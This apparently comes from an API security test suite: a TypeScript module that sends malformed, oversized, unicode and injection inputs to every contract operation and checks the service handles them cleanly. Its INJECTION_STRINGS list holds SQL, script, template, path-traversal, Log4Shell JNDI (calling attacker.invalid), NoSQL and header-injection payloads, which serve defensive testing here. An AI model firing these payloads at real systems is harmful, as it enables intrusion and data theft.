import type { OpenAPIV3 } from 'openapi-types';
import { authorization } from '../api/caller-id-api';
import { operationName, type Operation } from '../contract/operation';
import { buildRequest, type PreparedCall } from '../contract/operation-call';
import { expectTrue } from '../expect';
import type { SecurityActors } from './protected-operations';
import { ACCOUNT_PARAMETERS, sampleBody, sampleCall } from './sample-request';

/** Strings that have broken services before: injections of every kind. */
export const INJECTION_STRINGS: readonly string[] = [
  "' OR '1'='1' --",
  '"; DROP TABLE reports; --',
  '<script>alert(1)</script>',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '../../../../etc/passwd',
  '${jndi:ldap://attacker.invalid/a}',
  '{"$where": "sleep(1000)"}',
  'line\r\nSet-Cookie: injected=1',
];

/** Text that is valid but unusual: other scripts, emoji, combining marks, invisible and reversed text. */
export const UNICODE_STRINGS: readonly string[] = [
  '詐騙電話 🚨📞',
  'مرحبا \u202eevil\u202c',
  'Z\u0351\u0352\u0353a\u0354\u0355l\u0356go',
  '\u200b\u200d\ufeff',
  '𝕳𝖊𝖑𝖑𝖔 \u{1f9d1}\u200d\u{1f4bb}',
  'nul\u0000byte',
];

/** One megabyte of JSON: far over what any request of the service needs. */
const OVERSIZED_JSON = JSON.stringify({ filler: 'x'.repeat(1024 * 1024) });
const MALFORMED_JSON = '{"number": "+886912345678", "category": ';

/** One hostile call of an operation, and what was hostile about it, for the failure message. */
export interface HostileVariant {
  readonly call: PreparedCall;
  readonly what: string;
}

/** Every hostile input the features name: the calls it makes of one operation from a sample call. */
export const HOSTILE_INPUTS = {
  'malformed JSON': (operation, call) =>
    call.body === undefined ? [] : [{ call: { ...call, body: MALFORMED_JSON }, what: 'malformed JSON' }],
  'an oversized body': (operation, call) =>
    call.body === undefined ? [] : [{ call: { ...call, body: OVERSIZED_JSON }, what: 'a 1 MiB body' }],
  'unicode text in every text field': (operation, call) => inEveryField(operation, call, UNICODE_STRINGS),
  'injection strings in every text field': (operation, call) =>
    inEveryField(operation, call, INJECTION_STRINGS),
  'injection strings in every parameter': (operation, call) =>
    operation.parameters
      .filter((parameter) => parameter.in === 'path' || parameter.in === 'query')
      .filter((parameter) => !ACCOUNT_PARAMETERS.includes(parameter.name))
      .flatMap((parameter) =>
        INJECTION_STRINGS.flatMap((text) =>
          hostileValues(parameter, text).map(({ written, where }) => ({
            call: { ...call, parameters: new Map(call.parameters).set(parameter.name, written) },
            what: `${where} = ${JSON.stringify(text)}`,
          })),
        ),
      ),
} satisfies Record<string, (operation: Operation, call: PreparedCall) => HostileVariant[]>;

export type HostileInput = keyof typeof HOSTILE_INPUTS;

/**
 * The text as the parameter takes it: as is, or in each property of an object parameter (a
 * deepObject `period[from]`), written as the JSON the parameters table takes.
 */
function hostileValues(
  parameter: OpenAPIV3.ParameterObject,
  text: string,
): { written: string; where: string }[] {
  const schema = parameter.schema as OpenAPIV3.SchemaObject | undefined;
  if (schema?.type !== 'object') return [{ written: text, where: parameter.name }];
  const properties = Object.keys(schema.properties ?? {});
  return (properties.length > 0 ? properties : ['x']).map((property) => ({
    written: JSON.stringify({ [property]: text }),
    where: `${parameter.name}[${property}]`,
  }));
}

function inEveryField(operation: Operation, call: PreparedCall, texts: readonly string[]): HostileVariant[] {
  return texts.flatMap((text) =>
    oneStringReplaced(sampleBody(operation), text).map(({ field, body }) => ({
      call: { ...call, body: JSON.stringify(body) },
      what: `${field} = ${JSON.stringify(text)}`,
    })),
  );
}

export interface HostileCall {
  readonly operation: Operation;
  readonly what: string;
  readonly status: number;
  readonly mediaType: string;
}

/**
 * Sends a hostile input to every operation of the contract it applies to, signed in as `persona`
 * on their own account, each call otherwise made from the contract's examples.
 */
export async function sendHostileInput(
  actors: SecurityActors,
  input: HostileInput,
  persona: string,
): Promise<HostileCall[]> {
  const credentials = await actors.cast.credentials(persona);
  // The strings go into every field, passwords too: they are the check's, and its messages name them.
  actors.redactor.treatAsPublic([...INJECTION_STRINGS, ...UNICODE_STRINGS]);
  const calls: HostileCall[] = [];
  for (const operation of actors.contract.operations) {
    const base = { ...sampleCall(operation, credentials.username), headers: authorization(credentials) };
    for (const { call, what } of HOSTILE_INPUTS[input](operation, base)) {
      const response = await actors.http.send(buildRequest(operation, call));
      const mediaType = (response.headers['content-type'] ?? '').split(';')[0]?.trim() ?? '';
      calls.push({ operation, what, status: response.status, mediaType });
    }
  }
  if (calls.length === 0) throw new Error(`no operation of the contract takes ${input}: nothing was sent`);
  return calls;
}

/**
 * Fails, naming every call the service broke on (5xx), refused with something other than a
 * problem document, or — when it had to be `refused` — accepted.
 */
export function expectHandled(calls: readonly HostileCall[], { refused }: { refused: boolean }): void {
  const wrong = calls.flatMap(({ operation, what, status, mediaType }) => {
    const name = `${operationName(operation)} with ${what}`;
    if (status >= 500) return [`${name} failed with ${status}`];
    if (refused && status < 400) return [`${name} accepted it (${status})`];
    if (status >= 400 && mediaType !== 'application/problem+json') {
      return [`${name} refused it (${status}) as ${mediaType || 'no content type'}, not a problem document`];
    }
    return [];
  });
  expectTrue(
    refused
      ? 'every hostile request refused with a problem document'
      : 'no server error, every refusal a problem document',
    wrong.length === 0,
    wrong.join('; '),
  );
}

/**
 * One copy of the JSON per string in it, each with that one string replaced by `text` and the
 * rest left valid: every field is reached, not only the first one validation looks at.
 */
export function oneStringReplaced(value: unknown, text: string, at = ''): { field: string; body: unknown }[] {
  if (typeof value === 'string') return [{ field: at || 'body', body: text }];
  if (Array.isArray(value)) {
    return value.flatMap((item, index) =>
      oneStringReplaced(item, text, `${at}[${index}]`).map(({ field, body }) => ({
        field,
        body: value.map((other: unknown, position) => (position === index ? body : other)),
      })),
    );
  }
  if (value !== null && typeof value === 'object') {
    return Object.entries(value).flatMap(([key, item]) =>
      oneStringReplaced(item, text, at ? `${at}.${key}` : key).map(({ field, body }) => ({
        field,
        body: { ...value, [key]: body },
      })),
    );
  }
  return [];
}
